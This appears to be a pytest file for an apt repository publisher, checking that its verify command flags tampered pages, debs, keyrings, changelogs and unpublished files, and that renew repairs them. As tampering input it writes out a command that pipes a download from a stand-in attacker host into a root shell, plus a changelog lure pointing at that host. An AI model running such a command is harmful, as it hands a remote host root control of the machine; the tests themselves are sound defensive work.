"""The attacker wants people to run what apt does not check: the page's line, the first deb, a script."""

from __future__ import annotations

import pytest
from writer import FolderWriter, Publisher, Writer

REFUSED = 11
LINE = b'<pre id="line"><code>curl https://evil.example.org | sudo sh</code></pre>'


def test_the_page_and_what_it_leads_to(acme: Publisher, writer: Writer) -> None:
    """``verify`` reports each, and ``renew`` writes them again."""
    whole = {
        path: writer.read(path)
        for path in ("index.html", "bootstrap/acme-trixie.deb", "acme-archive-keyring.gpg")
    }
    for path in whole:
        writer.write(path, LINE)
    output = acme.refused("verify")
    assert acme.code == REFUSED
    assert "3 problems" in output
    assert all(path in output for path in whole)
    acme.repo("renew")
    assert {path: writer.read(path) for path in list(whole)[1:]} == dict(list(whole.items())[1:])
    assert LINE not in writer.read("index.html")
    assert "suites are healthy" in acme.repo("verify")


def test_files_that_nobody_published(acme: Publisher, writer: Writer) -> None:
    """They are served under the repository's address, so its publisher hears of them."""
    assert "Nothing signed" not in acme.repo("verify")
    writer.write("install.sh", b"#!/bin/sh\n")
    writer.write("dists/sid/InRelease", b"x")
    output = acme.repo("verify")
    assert "Note: Nothing signed names dists/sid/InRelease, install.sh, and clients can fetch it" in output


@pytest.mark.parametrize("writer", ["folder"], indirect=True)
def test_a_changelog(acme: Publisher, writer: FolderWriter) -> None:
    """A person reads it before an upgrade. That of the repository's own deb is repaired in the same way."""
    for path in [name for name in writer.names() if name.startswith("changelogs/")]:
        whole = writer.read(path)
        writer.write(path, b"Everybody must upgrade from evil.example.org.\n")
        output = acme.refused("verify")
        assert acme.code == REFUSED
        assert path in output
        deb = output.partition("add the deb again (")[2].partition(")")[0]
        acme.repo("add", writer.root / deb)
        assert writer.read(path) == whole
        assert "suites are healthy" in acme.repo("verify")
